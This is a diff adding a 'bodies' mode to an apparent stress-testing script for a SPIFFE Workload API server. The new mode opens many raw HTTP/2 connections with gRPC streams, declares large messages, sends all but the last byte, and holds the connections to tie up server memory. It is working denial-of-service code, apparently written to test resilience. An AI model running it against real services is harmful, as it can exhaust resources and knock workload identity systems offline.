@@ -164,10 +164,83 @@ def streams(path, count, share=False):
     ended -= refused
     print(f"open {len(answered - ended - refused)} refused {len(refused)} ended {len(ended)}", flush=True)
 
+WINDOW_UPDATE = 8
+
+def bodies(path, conns, per_conn, size, hold_seconds):
+    """On each of conns connections, starts per_conn ValidateJWTSVID
+    requests whose gRPC message declares size bytes, and sends all of it but
+    the last byte (honouring flow control), so a server that accepts such
+    messages holds them; then holds the connections open."""
+    socks, sent, ended = [], 0, 0
+    headers = b"".join(literal(n, v) for n, v in [
+        (b":method", b"POST"), (b":scheme", b"http"),
+        (b":path", b"/SpiffeWorkloadAPI/ValidateJWTSVID"), (b":authority", b"localhost"),
+        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
+        (b"workload.spiffe.io", b"true")])
+    for _ in range(conns):
+        s = connect(path)
+        s.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
+        deadline = time.monotonic() + 5
+        initial = 65535
+        while True:
+            kind, flags, stream, payload = read_frame(s, deadline)
+            if kind == SETTINGS and not flags & ACK:
+                for i in range(0, len(payload), 6):
+                    if int.from_bytes(payload[i:i + 2], "big") == 4:
+                        initial = int.from_bytes(payload[i + 2:i + 6], "big")
+                break
+        s.sendall(frame(SETTINGS, ACK, 0, b""))
+        conn_window, windows, left, done = 65535, {}, {}, set()
+        for i in range(per_conn):
+            stream = 2 * i + 1
+            s.sendall(frame(HEADERS, END_HEADERS, stream, headers))
+            windows[stream] = initial
+            left[stream] = size + 4  # 5-byte prefix, all but the last byte
+        body_start = {st: True for st in left}
+        while any(left[st] > 0 for st in left if st not in done):
+            progressed = False
+            for st in left:
+                if st in done or left[st] == 0:
+                    continue
+                n = min(left[st], windows[st], conn_window, 16384)
+                # The first frame carries the whole 5-byte message prefix.
+                if n <= 0 or (body_start[st] and n < 5):
+                    continue
+                chunk = b"\0" * n
+                if body_start[st]:
+                    chunk = b"\0" + size.to_bytes(4, "big") + b"\0" * (n - 5)
+                    body_start[st] = False
+                s.sendall(frame(DATA, 0, st, chunk))
+                left[st] -= n
+                windows[st] -= n
+                conn_window -= n
+                sent += n
+                progressed = True
+            if progressed:
+                continue
+            f = read_frame(s, time.monotonic() + 2)
+            if f is None:
+                break
+            kind, flags, stream, payload = f
+            if kind == WINDOW_UPDATE:
+                increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
+                if stream == 0:
+                    conn_window += increment
+                elif stream in windows:
+                    windows[stream] += increment
+            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
+                done.add(stream)
+        ended += len(done)
+        socks.append(s)
+    print(f"sent {sent} ended {ended}", flush=True)
+    time.sleep(hold_seconds)
+
 mode, path = sys.argv[1], sys.argv[2]
 if mode == "amplify":
     amplify(path, int(sys.argv[3]), int(sys.argv[4]))
 elif mode == "hold":
     hold(path, int(sys.argv[3]), float(sys.argv[4]))
+elif mode == "bodies":
+    bodies(path, int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
 elif mode == "streams":
     streams(path, int(sys.argv[3]), share=sys.argv[4:] == ["shared"])
